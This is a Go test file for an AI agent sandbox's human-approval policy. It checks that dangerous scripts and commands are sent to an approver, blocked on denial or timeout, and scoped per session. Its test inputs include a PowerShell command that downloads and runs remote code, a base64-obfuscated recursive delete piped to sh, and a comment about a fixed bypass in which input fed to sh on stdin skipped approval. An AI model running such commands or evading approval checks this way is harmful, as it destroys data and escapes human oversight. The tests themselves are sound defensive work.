package approval

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/hermes-agent/hermes-wasm-exec/config"
	"github.com/hermes-agent/hermes-wasm-exec/internal/cmdcheck"
	"github.com/hermes-agent/hermes-wasm-exec/internal/engine"
)

// The shell's dialect reaches the decision: a cmd.exe line is read as
// cmd.exe reads it, and the same line for sh is not.
func TestApprovalShellDialect(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	ap := &recorder{d: Decision{Approved: false}}
	a := New(config.ApprovalsManual, time.Second)
	msg := a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, `rd /s /q C:\build`, cmdcheck.Cmd)
	require.Contains(t, msg, "top-level directory")
	require.Contains(t, msg, "was denied")
	require.Empty(t, a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, `rd /s /q C:\build`, cmdcheck.Sh), "rd is no POSIX program with rules")
	require.Empty(t, a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, `if exist build (rd build)`, cmdcheck.Cmd), "cmd syntax is not unparseable sh")
	require.NotEmpty(t, a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, `if exist build (rd build)`, cmdcheck.Sh))
	require.NotEmpty(t, a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, `powershell -c "iwr http://x | iex"`, cmdcheck.Cmd))
	require.Equal(t, 3, ap.count())
	require.Equal(t, Request{Type: config.ApproveCommand, Session: "s", Command: `rd /s /q C:\build`, Reason: "delete of /, ~ or a top-level directory"}, ap.asks[0])
}

func TestApprovalNonLiteralCommand(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	ap := &recorder{d: Decision{Approved: false}}
	a := New(config.ApprovalsAsk, time.Second)
	for _, cmd := range []string{"$(echo rm) -rf x", "echo cm0gLXJmIHg= | base64 -d | sh"} {
		msg := a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, cmd, cmdcheck.Sh)
		require.True(t, strings.HasPrefix(msg, "Command blocked: "), "%q: %q", cmd, msg)
		require.Contains(t, msg, "was denied")
	}
	require.Equal(t, 2, ap.count())
	require.Contains(t, ap.asks[0].Reason, "only known at run time")
	require.Contains(t, ap.asks[1].Reason, "on stdin")
}

// recorder is an Approver that answers with a fixed decision and records
// what it was asked.
type recorder struct {
	mu   sync.Mutex
	asks []Request
	d    Decision
	err  error
}

func (r *recorder) Approve(ctx context.Context, req Request) (Decision, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.asks = append(r.asks, req)
	return r.d, r.err
}

func (r *recorder) count() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.asks)
}

func TestApprovalModes(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	const danger = "rm -rf ./build"
	for _, kind := range []string{config.KindGateway, config.KindAutomation} {
		t.Run(kind, func(t *testing.T) {
			ap := &recorder{d: Decision{Approved: true}}
			off := New(config.ApprovalsOff, time.Second)
			require.Empty(t, off.Script(ctx, ap, grantsOf(off, "s"), kind, "print(1)"))
			deny := New(config.ApprovalsDeny, time.Second)
			msg := deny.Script(ctx, ap, grantsOf(deny, "s"), kind, "print(1)")
			require.True(t, strings.HasPrefix(msg, "Script blocked: "), msg)
			require.Contains(t, msg, `approvals.mode is "deny"`)
			require.Contains(t, msg, kind+" sessions")
			require.Zero(t, ap.count(), "off and deny never ask")

			ask := New(config.ApprovalsAsk, time.Second)
			require.Empty(t, ask.Script(ctx, ap, grantsOf(ask, "s"), kind, "print(1)"))
			require.Equal(t, []Request{{Type: config.ApproveScript, Session: "s", Code: "print(1)"}}, ap.asks)
			// The whole script was approved: its commands run.
			require.Empty(t, ask.Command(ctx, ap, grantsOf(ask, "s"), kind, danger, cmdcheck.Sh))
			require.Empty(t, deny.Command(ctx, ap, grantsOf(deny, "s"), kind, danger, cmdcheck.Sh))
			require.Equal(t, 1, ap.count())
		})
	}
	for _, kind := range []string{config.KindCLI, ""} {
		t.Run("cli"+kind, func(t *testing.T) {
			ap := &recorder{d: Decision{Approved: true}}
			for _, mode := range []string{config.ApprovalsOff, config.ApprovalsDeny, config.ApprovalsAsk} {
				require.Empty(t, New(mode, time.Second).Script(ctx, ap, &SessionGrants{Session: "s"}, kind, "print(1)"), mode)
			}
			require.Zero(t, ap.count(), "a CLI script is never asked about")

			require.Empty(t, New(config.ApprovalsOff, time.Second).Command(ctx, ap, &SessionGrants{Session: "s"}, kind, danger, cmdcheck.Sh))
			msg := New(config.ApprovalsDeny, time.Second).Command(ctx, ap, &SessionGrants{Session: "s"}, kind, danger, cmdcheck.Sh)
			require.Equal(t, "Command blocked: `rm -rf ./build` needs approval (recursive delete) and approvals.mode is \"deny\", so it was not run. Do not retry it; find a safer way, or ask the user to run it themselves.", msg)
			require.Zero(t, ap.count())

			ask := New(config.ApprovalsAsk, time.Second)
			require.Empty(t, ask.Command(ctx, ap, grantsOf(ask, "s"), kind, "ls -la", cmdcheck.Sh), "harmless commands are not asked about")
			require.Zero(t, ap.count())
			require.Empty(t, ask.Command(ctx, ap, grantsOf(ask, "s"), kind, danger, cmdcheck.Sh))
			require.Equal(t, []Request{{Type: config.ApproveCommand, Session: "s", Command: danger, Reason: "recursive delete"}}, ap.asks)
		})
	}
}

func TestApprovalDenied(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	ap := &recorder{d: Decision{Approved: false, Scope: config.ScopeSession}}
	a := New(config.ApprovalsAsk, time.Second)
	require.Equal(t, "Script blocked: the gateway session's approval was denied, so the script did not run. Do not resubmit it unchanged; ask the user how to proceed.",
		a.Script(ctx, ap, grantsOf(a, "s"), config.KindGateway, "print(1)"))
	require.Equal(t, "Command blocked: `rm -rf /tmp/x` needs approval (recursive delete) and was denied. Do not retry it; find another way or ask the user.",
		a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, "rm -rf /tmp/x", cmdcheck.Sh))
	// Denials are never remembered, even with a scope.
	a.Script(ctx, ap, grantsOf(a, "s"), config.KindGateway, "print(1)")
	a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, "rm -rf /tmp/x", cmdcheck.Sh)
	require.Equal(t, 4, ap.count())
}

func TestApprovalNoAnswer(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	t.Run("no approver", func(t *testing.T) {
		a := New(config.ApprovalsAsk, time.Second)
		require.Equal(t, "Script blocked: approval is required for automation sessions and nobody is connected to approve it, so the script did not run. Ask the user to approve it, then run it again.",
			a.Script(ctx, nil, grantsOf(a, "s"), config.KindAutomation, "print(1)"))
		require.Contains(t, a.Command(ctx, nil, grantsOf(a, "s"), config.KindCLI, "sudo ls", cmdcheck.Sh), "Command blocked: `sudo ls` needs approval (runs as another user (sudo/su)) and nobody is connected")
	})
	t.Run("never answers", func(t *testing.T) {
		// An approver that ignores ctx is abandoned at the timeout.
		block := make(chan struct{})
		defer close(block)
		never := Func(func(ctx context.Context, req Request) (Decision, error) {
			<-block
			return Decision{Approved: true}, nil
		})
		a := New(config.ApprovalsAsk, 100*time.Millisecond)
		start := time.Now()
		msg := a.Script(ctx, never, grantsOf(a, "s"), config.KindGateway, "print(1)")
		// Abandoned at the timeout, not waited for (loose for a loaded
		// machine).
		require.Less(t, time.Since(start), 30*time.Second)
		require.Equal(t, "Script blocked: approval is required for gateway sessions and nobody answered within 0.1s, so the script did not run. Ask the user to approve it, then run it again.", msg)
		msg = a.Command(ctx, never, grantsOf(a, "s"), config.KindCLI, "git push --force", cmdcheck.Sh)
		require.Contains(t, msg, "nobody answered within 0.1s")
	})
	t.Run("honours ctx", func(t *testing.T) {
		waiting := Func(func(ctx context.Context, req Request) (Decision, error) {
			<-ctx.Done()
			return Decision{}, ctx.Err()
		})
		a := New(config.ApprovalsAsk, 100*time.Millisecond)
		require.Contains(t, a.Script(ctx, waiting, grantsOf(a, "s"), config.KindGateway, "x"), "nobody answered within 0.1s")
		require.Contains(t, New(config.ApprovalsAsk, 120*time.Second).Script(ctx, Func(func(ctx context.Context, req Request) (Decision, error) {
			return Decision{}, context.DeadlineExceeded
		}), &SessionGrants{Session: "s"}, config.KindGateway, "x"), "approval request failed")
	})
	t.Run("error", func(t *testing.T) {
		ap := &recorder{d: Decision{Approved: true}, err: errors.New("client went away")}
		a := New(config.ApprovalsAsk, time.Second)
		require.Equal(t, "Script blocked: approval is required for gateway sessions and the approval request failed (client went away), so the script did not run. Ask the user to approve it, then run it again.",
			a.Script(ctx, ap, grantsOf(a, "s"), config.KindGateway, "print(1)"))
		require.Contains(t, a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, "crontab -r", cmdcheck.Sh), "the approval request failed (client went away)")
	})
	t.Run("panics", func(t *testing.T) {
		a := New(config.ApprovalsAsk, time.Second)
		msg := a.Script(ctx, Func(func(context.Context, Request) (Decision, error) { panic("boom") }), &SessionGrants{Session: "s"}, config.KindGateway, "x")
		require.Contains(t, msg, "the approver panicked: boom")
	})
	t.Run("interrupted", func(t *testing.T) {
		a := New(config.ApprovalsAsk, 10*time.Second)
		cctx, cancel := context.WithCancelCause(ctx)
		// Interrupted once the approver is waiting for its answer.
		asked := make(chan struct{})
		go func() {
			<-asked
			cancel(&engine.InterruptError{Reason: "user sent a new message"})
		}()
		msg := a.Script(cctx, Func(func(ctx context.Context, req Request) (Decision, error) {
			close(asked)
			<-ctx.Done()
			return Decision{}, context.Cause(ctx)
		}), &SessionGrants{Session: "s"}, config.KindGateway, "x")
		require.Contains(t, msg, "the call was interrupted while waiting for the answer (user sent a new message)")
	})
}

func TestApprovalScopes(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	t.Run("script once", func(t *testing.T) {
		a := New(config.ApprovalsAsk, time.Second)
		ap := &recorder{d: Decision{Approved: true, Scope: config.ScopeOnce}}
		a.Script(ctx, ap, grantsOf(a, "s"), config.KindGateway, "1")
		a.Script(ctx, ap, grantsOf(a, "s"), config.KindGateway, "2")
		require.Equal(t, 2, ap.count(), "once is not remembered")
	})
	t.Run("unknown scope is once", func(t *testing.T) {
		a := New(config.ApprovalsAsk, time.Second)
		ap := &recorder{d: Decision{Approved: true, Scope: "forever"}}
		a.Script(ctx, ap, grantsOf(a, "s"), config.KindGateway, "1")
		a.Script(ctx, ap, grantsOf(a, "s"), config.KindGateway, "2")
		require.Equal(t, 2, ap.count())
	})
	t.Run("script session", func(t *testing.T) {
		a := New(config.ApprovalsAsk, time.Second)
		ap := &recorder{d: Decision{Approved: true, Scope: config.ScopeSession}}
		require.Empty(t, a.Script(ctx, ap, grantsOf(a, "s"), config.KindGateway, "1"))
		require.Empty(t, a.Script(ctx, ap, grantsOf(a, "s"), config.KindAutomation, "another script"))
		require.Equal(t, 1, ap.count(), "a session approval holds for later scripts of the session")
		ap.d = Decision{Approved: false}
		require.NotEmpty(t, a.Script(ctx, ap, grantsOf(a, "t"), config.KindGateway, "1"), "not for other sessions")
		require.Equal(t, 2, ap.count())
		forgetGrants(a, "s") // the session was closed
		require.NotEmpty(t, a.Script(ctx, ap, grantsOf(a, "s"), config.KindGateway, "1"), "forgotten with the session")
		require.Equal(t, 3, ap.count())
	})
	t.Run("script always", func(t *testing.T) {
		a := New(config.ApprovalsAsk, time.Second)
		ap := &recorder{d: Decision{Approved: true, Scope: config.ScopeAlways}}
		require.Empty(t, a.Script(ctx, ap, grantsOf(a, "s"), config.KindGateway, "1"))
		forgetGrants(a, "s") // the session was closed
		require.Empty(t, a.Script(ctx, ap, grantsOf(a, "s"), config.KindGateway, "2"))
		require.Empty(t, a.Script(ctx, nil, grantsOf(a, "other"), config.KindAutomation, "3"))
		require.Equal(t, 1, ap.count())
	})
	t.Run("command session", func(t *testing.T) {
		a := New(config.ApprovalsAsk, time.Second)
		ap := &recorder{d: Decision{Approved: true, Scope: config.ScopeSession}}
		require.Empty(t, a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, "rm -rf ./build", cmdcheck.Sh))
		require.Empty(t, a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, "rm -r dist", cmdcheck.Sh), "the same reason is approved for the session")
		require.Equal(t, 1, ap.count())
		require.Empty(t, a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, "git reset --hard", cmdcheck.Sh), "another reason is asked about")
		require.Equal(t, 2, ap.count())
		require.Empty(t, a.Command(ctx, ap, grantsOf(a, "t"), config.KindCLI, "rm -rf ./build", cmdcheck.Sh), "another session is asked")
		require.Equal(t, 3, ap.count())
		// sudo rm -rf x needs both reasons; only one is approved.
		require.Empty(t, a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, "sudo rm -rf x", cmdcheck.Sh))
		require.Equal(t, 4, ap.count())
		require.Empty(t, a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, "sudo ls", cmdcheck.Sh))
		require.Equal(t, 4, ap.count(), "sudo was approved with the previous command")
		forgetGrants(a, "s") // the session was closed
		require.Empty(t, a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, "rm -rf ./build", cmdcheck.Sh))
		require.Equal(t, 5, ap.count())
	})
	t.Run("command always", func(t *testing.T) {
		a := New(config.ApprovalsAsk, time.Second)
		ap := &recorder{d: Decision{Approved: true, Scope: config.ScopeAlways}}
		require.Empty(t, a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, "git push --force", cmdcheck.Sh))
		forgetGrants(a, "s") // the session was closed
		require.Empty(t, a.Command(ctx, nil, grantsOf(a, "t"), config.KindCLI, "git push -f origin main", cmdcheck.Sh))
		require.Equal(t, 1, ap.count())
		msg := a.Command(ctx, nil, grantsOf(a, "t"), config.KindCLI, "git clean -fd", cmdcheck.Sh)
		require.Contains(t, msg, "nobody is connected", "always covers only the approved reason")
	})
	t.Run("scripts and commands are separate", func(t *testing.T) {
		a := New(config.ApprovalsAsk, time.Second)
		ap := &recorder{d: Decision{Approved: true, Scope: config.ScopeAlways}}
		require.Empty(t, a.Script(ctx, ap, grantsOf(a, "s"), config.KindGateway, "1"))
		require.NotEmpty(t, a.Command(ctx, nil, grantsOf(a, "s"), config.KindCLI, "rm -rf x", cmdcheck.Sh))
	})
}

func TestApprovalConcurrent(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	a := New(config.ApprovalsAsk, time.Second)
	var asked atomic.Int32
	ap := Func(func(ctx context.Context, req Request) (Decision, error) {
		asked.Add(1)
		return Decision{Approved: true, Scope: config.ScopeSession}, nil
	})
	var wg sync.WaitGroup
	for i := range 50 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			s := fmt.Sprintf("s%d", i%5)
			require.Empty(t, a.Script(ctx, ap, grantsOf(a, s), config.KindGateway, "x"))
			require.Empty(t, a.Command(ctx, ap, grantsOf(a, s), config.KindCLI, "rm -rf x", cmdcheck.Sh))
			if i%7 == 0 {
				forgetGrants(a, s)
			}
		}()
	}
	wg.Wait()
	require.GreaterOrEqual(t, int(asked.Load()), 10)
}

func TestQuoteCommand(t *testing.T) {
	t.Parallel()
	require.Equal(t, "`rm -rf x`", quoteCommand("rm   -rf\n x"))
	long := quoteCommand(strings.Repeat("é", 300))
	require.True(t, strings.HasSuffix(long, "…`"))
	require.LessOrEqual(t, len(long), 210)
}

// TestApprovalHermesModes: Hermes's approvals.mode values. smart asks a
// model in Hermes; there is none here, so it behaves exactly as manual
// (and as "ask", manual's former name): scripts of gateway sessions and
// dangerous commands of CLI sessions are asked about.
func TestApprovalHermesModes(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	for _, mode := range []string{config.ApprovalsManual, config.ApprovalsSmart, "ask", " Smart ", "", "bogus"} {
		ap := &recorder{d: Decision{Approved: false}}
		a := New(mode, time.Second)
		require.Equal(t, config.ApprovalsManual, a.mode, "%q", mode)
		msg := a.Script(ctx, ap, grantsOf(a, "s"), config.KindGateway, "print(1)")
		require.Contains(t, msg, "approval was denied", "%q", mode)
		msg = a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, "rm -rf ./build", cmdcheck.Sh)
		require.Contains(t, msg, "was denied", "%q", mode)
		require.Equal(t, 2, ap.count(), "%q asks", mode)
	}
	for _, mode := range []string{"off", "OFF"} {
		ap := &recorder{}
		a := New(mode, time.Second)
		require.Empty(t, a.Script(ctx, ap, grantsOf(a, "s"), config.KindGateway, "print(1)"))
		require.Empty(t, a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, "rm -rf ./build", cmdcheck.Sh))
		require.Zero(t, ap.count())
	}
}

// TestApprovalCronMode: approvals.cron_mode decides for automation
// sessions (Hermes's cron jobs), where nobody is there to approve: deny
// blocks the script at once with Hermes's text, approve runs it (and its
// commands) without asking, ask (the default) asks like a gateway session.
// approvals.mode off and deny still win, and gateway sessions are not
// affected.
func TestApprovalCronMode(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	const danger = "rm -rf ./build"

	ap := &recorder{d: Decision{Approved: true}}
	deny := New(config.ApprovalsManual, time.Second).WithCron(config.CronModeDeny)
	require.Equal(t, "BLOCKED: execute_code runs arbitrary local Python (including subprocess calls that bypass shell-string approval checks). Cron jobs run without a user present to approve it. Use normal tools instead, or set approvals.cron_mode: approve only if this cron profile is intentionally trusted.",
		deny.Script(ctx, ap, grantsOf(deny, "s"), config.KindAutomation, "print(1)"))
	require.Zero(t, ap.count(), "cron_mode deny never asks")
	require.Empty(t, deny.Script(ctx, ap, grantsOf(deny, "s"), config.KindGateway, "print(1)"), "a gateway session is still asked")
	require.Equal(t, 1, ap.count())

	for _, approve := range []string{config.CronModeApprove, "off", "Allow", "yes"} {
		ap := &recorder{d: Decision{Approved: false}}
		a := New(config.ApprovalsSmart, time.Second).WithCron(approve)
		require.Empty(t, a.Script(ctx, ap, grantsOf(a, "s"), config.KindAutomation, "print(1)"), approve)
		require.Empty(t, a.Command(ctx, ap, grantsOf(a, "s"), config.KindAutomation, danger, cmdcheck.Sh), approve)
		require.Zero(t, ap.count(), "cron_mode %s never asks", approve)
	}

	for _, ask := range []string{config.CronModeAsk, "", "whatever"} {
		ap := &recorder{d: Decision{Approved: false}}
		a := New(config.ApprovalsManual, time.Second).WithCron(ask)
		require.Contains(t, a.Script(ctx, ap, grantsOf(a, "s"), config.KindAutomation, "print(1)"), "automation session's approval was denied")
		require.Equal(t, 1, ap.count())
		require.Contains(t, New(config.ApprovalsManual, time.Second).WithCron(ask).Script(ctx, nil, &SessionGrants{Session: "s"}, config.KindAutomation, "print(1)"),
			"approval is required for automation sessions and nobody is connected to approve it")
	}

	// approvals.mode wins: off runs everything, deny blocks everything.
	ap = &recorder{}
	require.Empty(t, New(config.ApprovalsOff, time.Second).WithCron(config.CronModeDeny).Script(ctx, ap, &SessionGrants{Session: "s"}, config.KindAutomation, "print(1)"))
	require.Contains(t, New(config.ApprovalsDeny, time.Second).WithCron(config.CronModeApprove).Script(ctx, ap, &SessionGrants{Session: "s"}, config.KindAutomation, "print(1)"),
		`approvals.mode is "deny"`)
	require.Zero(t, ap.count())
}

// TestApprovalCommandWithInput: a command given the script's input on its
// stdin is asked about when a shell or interpreter would run that input,
// and a program reading data is not. Before, subprocess.run(["sh"],
// input=b"rm -rf ~") in the WASI interpreter was checked as "sh" and ran
// without approval.
func TestApprovalCommandWithInput(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	ap := &recorder{d: Decision{Approved: false}}
	a := New(config.ApprovalsManual, time.Second)
	require.Empty(t, a.Command(ctx, ap, grantsOf(a, "s"), config.KindCLI, "sh", cmdcheck.Sh), "with no input, sh reads nothing")
	msg := a.CommandWithInput(ctx, ap, &SessionGrants{Session: "s"}, config.KindCLI, "sh", cmdcheck.Sh)
	require.True(t, strings.HasPrefix(msg, "Command blocked: `sh` needs approval (feeds a program to a shell or interpreter on stdin"), msg)
	require.Empty(t, a.CommandWithInput(ctx, ap, &SessionGrants{Session: "s"}, config.KindCLI, "sort -u", cmdcheck.Sh))
	require.NotEmpty(t, a.CommandWithInput(ctx, ap, &SessionGrants{Session: "s"}, config.KindCLI, "cmd", cmdcheck.Cmd))
	require.Equal(t, 2, ap.count())
	require.Empty(t, New(config.ApprovalsOff, time.Second).CommandWithInput(ctx, ap, &SessionGrants{Session: "s"}, config.KindCLI, "sh", cmdcheck.Sh))
}

// testGrants are the sessions' decisions of the tests' policies, as an
// executor's sessions hold them: one record per policy and session name.
var testGrants = struct {
	sync.Mutex
	m map[grantsKey]*SessionGrants
}{m: map[grantsKey]*SessionGrants{}}

type grantsKey struct {
	a       *Policy
	session string
}

// grantsOf is session's record of decisions under a.
func grantsOf(a *Policy, session string) *SessionGrants {
	testGrants.Lock()
	defer testGrants.Unlock()
	k := grantsKey{a, session}
	if testGrants.m[k] == nil {
		testGrants.m[k] = &SessionGrants{Session: session}
	}
	return testGrants.m[k]
}

// forgetGrants drops session's record under a, as closing the session does.
func forgetGrants(a *Policy, session string) {
	testGrants.Lock()
	defer testGrants.Unlock()
	delete(testGrants.m, grantsKey{a, session})
}
